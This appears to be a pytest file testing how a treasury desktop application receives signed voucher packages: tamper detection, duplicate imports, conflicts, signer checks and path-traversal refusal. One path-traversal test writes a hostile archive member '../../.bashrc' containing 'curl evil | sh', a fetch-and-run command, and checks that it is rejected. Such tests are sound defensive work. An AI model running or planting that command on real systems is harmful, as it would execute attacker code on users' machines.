"""Receiving a package: each voucher stands alone. One changed byte refuses that voucher with a
reason and the rest come in; the same package twice changes nothing; the same id with other
content is a conflict, never merged."""

from __future__ import annotations

import hashlib
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from two_desks import CHIEF, HOLDER, DeskRig, now, open_desk, read_members, rewrite

from treasury_desktop.domain.canonical import voucher_bytes
from treasury_desktop.domain.voucher import Unit
from treasury_desktop.domain.workflow import VoucherState
from treasury_desktop.packages.format import MANIFEST, MANIFEST_SIGNATURE, PackageRefused
from treasury_desktop.signing.executor import TokenExecutor
from treasury_desktop.store.audit import audit_entries
from treasury_desktop.store.profile import ProfileStore
from treasury_desktop.store.signatures import SignerRegistry
from treasury_desktop.usecases.package_arrivals import arrivals, needs, refusal
from treasury_desktop.usecases.package_export import PackageExporter
from treasury_desktop.usecases.package_import import ItemOutcome
from treasury_desktop.usecases.package_sender import ManifestSigner


@pytest.fixture
def desks(tmp_path: Path, softhsm: Any, softhsm_module_loaded: Any) -> tuple[DeskRig, DeskRig]:
    return (open_desk("A", tmp_path, softhsm, softhsm_module_loaded),
            open_desk("B", tmp_path, softhsm, softhsm_module_loaded))


def _signed_package(a: DeskRig, document: dict[str, Any], count: int, path: Path
                    ) -> tuple[list[str], Path]:
    ids = a.drafts(document, count)
    a.sign(ids, CHIEF)
    return ids, a.export(ids, path).path


def _change_member(package: Path, name: str, change: Any, out: Path) -> Path:
    members = [(info, change(data) if info.filename == name else data)
               for info, data in read_members(package)]
    return rewrite(out, members)  # type: ignore[arg-type]


def test_one_changed_byte_refuses_that_voucher_and_imports_the_rest(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
) -> None:
    a, b = desks
    ids, package = _signed_package(a, example_document, 3, tmp_path / "p.tdpkg")
    victim = f"vouchers/{ids[1]}/signed_bytes.json"

    def one_byte(data: bytes) -> bytes:  # 1234000 -> 9234000 in the amount
        at = data.index(b"1234000")
        return data[:at] + b"9" + data[at + 1:]

    tampered = _change_member(package, victim, one_byte, tmp_path / "tampered.tdpkg")
    result = b.receive(tampered)
    outcomes = {i.voucher_id: i for i in result.items}
    assert outcomes[ids[0]].outcome is ItemOutcome.IMPORTED
    assert outcomes[ids[2]].outcome is ItemOutcome.IMPORTED
    refused = outcomes[ids[1]]
    assert refused.outcome is ItemOutcome.REFUSED and not refused.ok
    assert refused.message.key == "package.item.hash_differs"
    assert "đã bị thay đổi" in refused.message.render("vi")
    assert b.conn.execute("SELECT 1 FROM vouchers WHERE id = ?", (ids[1],)).fetchone() is None
    [row] = [r for r in arrivals(b.conn) if r.voucher_id == ids[1]]
    assert row.status is None and refusal(row) == refused.message
    assert needs(row).key == "package.needs.refused"
    assert any(e.action == "package_refused" for e in audit_entries(b.conn, ids[1]))


def test_a_changed_voucher_with_a_recomputed_manifest_fails_its_signature(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
) -> None:
    a, b = desks
    ids, package = _signed_package(a, example_document, 2, tmp_path / "p.tdpkg")
    name = f"vouchers/{ids[0]}/signed_bytes.json"
    members = dict((info.filename, data) for info, data in read_members(package))
    changed = members[name].replace(b"Thai", b"Thai").replace(b"10/2026", b"11/2026")
    manifest = json.loads(members[MANIFEST])
    for item in manifest["items"]:
        if item["voucher_id"] == ids[0]:
            item["signed_bytes"]["sha256"] = hashlib.sha256(changed).hexdigest()
            item["signed_bytes"]["size"] = len(changed)
    members[name] = changed
    members[MANIFEST] = json.dumps(manifest, ensure_ascii=False).encode()
    result = b.receive(rewrite(tmp_path / "forged.tdpkg", list(members.items())))
    first, second = result.items
    assert first.outcome is ItemOutcome.REFUSED
    assert first.message.key in ("package.item.not_a_voucher", "signing.verify.content_changed")
    assert second.outcome is ItemOutcome.IMPORTED


def test_a_flipped_byte_in_the_file_refuses_only_its_voucher(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
) -> None:
    a, b = desks
    ids = a.drafts(example_document, 2)
    a.sign(ids, CHIEF)
    package = a.export(ids, tmp_path / "p.tdpkg").path
    raw = bytearray(package.read_bytes())
    with zipfile.ZipFile(package) as archive:
        info = archive.getinfo(f"vouchers/{ids[1]}/signature.p7s")
    data_start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    raw[data_start + info.compress_size // 2] ^= 0x01
    package.write_bytes(bytes(raw))
    result = b.receive(package)
    assert result.items[0].outcome is ItemOutcome.IMPORTED
    assert result.items[1].outcome is ItemOutcome.REFUSED
    assert result.items[1].message.key == "package.item.damaged"


def test_the_same_package_twice_changes_nothing(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
) -> None:
    a, b = desks
    ids, package = _signed_package(a, example_document, 2, tmp_path / "p.tdpkg")
    first = b.receive(package)
    assert not first.read_before and all(i.outcome is ItemOutcome.IMPORTED for i in first.items)
    before = b.snapshot()
    second = b.receive(package)
    assert second.read_before
    assert [i.outcome for i in second.items] == [ItemOutcome.UNCHANGED] * 2
    assert b.snapshot() == before
    # Back on A, the package A made itself brings nothing new either.
    a_before = a.snapshot()
    mine = a.receive(package)
    assert [i.outcome for i in mine.items] == [ItemOutcome.UNCHANGED] * 2
    assert a.snapshot()["signatures"] == a_before["signatures"]
    assert a.snapshot()["vouchers"] == a_before["vouchers"]
    assert all(a.status(v) is VoucherState.SIGNED_CHIEF for v in ids)


def test_same_id_other_content_is_a_conflict_never_merged(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
) -> None:
    a, b = desks
    [voucher_id] = a.drafts(example_document, 1)
    a.sign([voucher_id], CHIEF)
    b.receive(a.export([voucher_id], tmp_path / "1.tdpkg").path)
    b.sign([voucher_id], HOLDER)
    # Meanwhile A edits its copy (its signature goes) and signs the new content again.
    repo, _ = a.ctx.repositories(a.conn)
    stored = repo.get(voucher_id)
    assert stored is not None
    edited = stored.voucher.with_changes(number="999")
    repo.save(edited, problems=0, actor=a.ctx.actor, drop_signatures=True)
    a.sign([voucher_id], CHIEF)
    a_bytes = voucher_bytes(edited)
    result = a.receive(b.export([voucher_id], tmp_path / "2.tdpkg").path)
    [item] = result.items
    assert item.outcome is ItemOutcome.CONFLICT and not item.ok
    assert "nội dung khác" in item.message.render("vi")
    after = repo.get(voucher_id)
    assert after is not None and voucher_bytes(after.voucher) == a_bytes
    assert a.status(voucher_id) is VoucherState.SIGNED_CHIEF


def test_an_unregistered_signer_refuses_the_voucher(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
    softhsm: Any,
) -> None:
    a, b = desks
    ids, package = _signed_package(a, example_document, 1, tmp_path / "p.tdpkg")
    SignerRegistry(b.conn).remove(softhsm.chief.key.cert_sha256, actor=b.ctx.actor)
    [item] = b.receive(package).items
    assert item.outcome is ItemOutcome.REFUSED
    assert item.message.key == "signing.role.not_registered"
    # Registered again, the same package now brings it in (the outcome changed, so it is kept).
    from treasury_signing_fixtures import register

    register(b.conn, softhsm.chief.key.certificate_der, CHIEF)
    [again] = b.receive(package).items
    assert again.outcome is ItemOutcome.IMPORTED and b.status(ids[0]) is VoucherState.SIGNED_CHIEF


def test_a_voucher_of_another_unit_is_refused(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
) -> None:
    a, b = desks
    _, package = _signed_package(a, example_document, 1, tmp_path / "p.tdpkg")
    ProfileStore(b.conn).set_unit(Unit("7654321", "Trạm Y tế xã", "9523.2.7654321", "0011"))
    [item] = b.receive(package).items
    assert item.outcome is ItemOutcome.REFUSED and item.message.key == "package.item.other_unit"


def test_a_tampered_sender_signature_refuses_the_whole_package(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
    softhsm: Any, softhsm_module_loaded: Any,
) -> None:
    a, b = desks
    ids = a.drafts(example_document, 2)
    a.sign(ids, CHIEF)
    exporter = PackageExporter(a.conn, a.ctx.actor, now)
    prepared = exporter.prepare(ids)
    with TokenExecutor() as executor:
        signer = ManifestSigner(a.conn, executor, softhsm_module_loaded, now)
        signature = signer.sign(signer.prepare(CHIEF, "KTT-RSA"), softhsm.chief.user_pin,
                                prepared.manifest_bytes)
    package = exporter.write(prepared, tmp_path / "signed.tdpkg", signature).path
    forged = _change_member(package, MANIFEST,
                            lambda data: data.replace("Máy A".encode(), "Máy Z".encode()),
                            tmp_path / "forged.tdpkg")
    with pytest.raises(PackageRefused) as refused:
        b.receive(forged)
    assert refused.value.message.key == "package.refused.sender_signature"
    assert b.conn.execute("SELECT count(*) FROM vouchers").fetchone()[0] == 0
    assert any(e.action == "package_refused" for e in audit_entries(b.conn))
    # A holder signing the package in the chief's name cannot either: the signature is theirs.
    assert {m[0].filename for m in read_members(package)} >= {MANIFEST, MANIFEST_SIGNATURE}


def test_a_package_holding_dotdot_names_is_refused_whole(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
) -> None:
    a, b = desks
    _, package = _signed_package(a, example_document, 2, tmp_path / "p.tdpkg")
    members: list[tuple[zipfile.ZipInfo | str, bytes]] = list(read_members(package))
    members.append(("../../.bashrc", b"curl evil | sh"))
    with pytest.raises(PackageRefused) as refused:
        b.receive(rewrite(tmp_path / "evil.tdpkg", members))
    assert refused.value.message.key == "package.refused.path_trick"
    assert b.conn.execute("SELECT count(*) FROM vouchers").fetchone()[0] == 0
    assert b.conn.execute("SELECT count(*) FROM package_arrivals").fetchone()[0] == 0
    assert not (tmp_path.parent / ".bashrc").exists()


def test_the_bang_ke_travels_inside_the_signed_bytes(
    desks: tuple[DeskRig, DeskRig], example_document: dict[str, Any], tmp_path: Path,
) -> None:
    a, b = desks
    statement = {"kind": "direct", "items": [
        {"document_number": "HĐ 0001234", "document_date": "2026-11-02", "ndkt": "6501",
         "content": "Tiền điện tháng 10/2026", "amount": 1_234_000},
    ]}
    [voucher_id] = a.drafts({**example_document, "statement": statement}, 1)
    a.sign([voucher_id], CHIEF)
    package = a.export([voucher_id], tmp_path / "p.tdpkg").path
    signed = dict((i.filename, d) for i, d in read_members(package))[
        f"vouchers/{voucher_id}/signed_bytes.json"]
    assert json.loads(signed)["statement"]["items"][0]["document_number"] == "HĐ 0001234"
    [item] = b.receive(package).items
    assert item.outcome is ItemOutcome.IMPORTED
    repo, _ = b.ctx.repositories(b.conn)
    stored = repo.get(voucher_id)
    assert stored is not None and stored.voucher.statement is not None
    assert voucher_bytes(stored.voucher) == signed
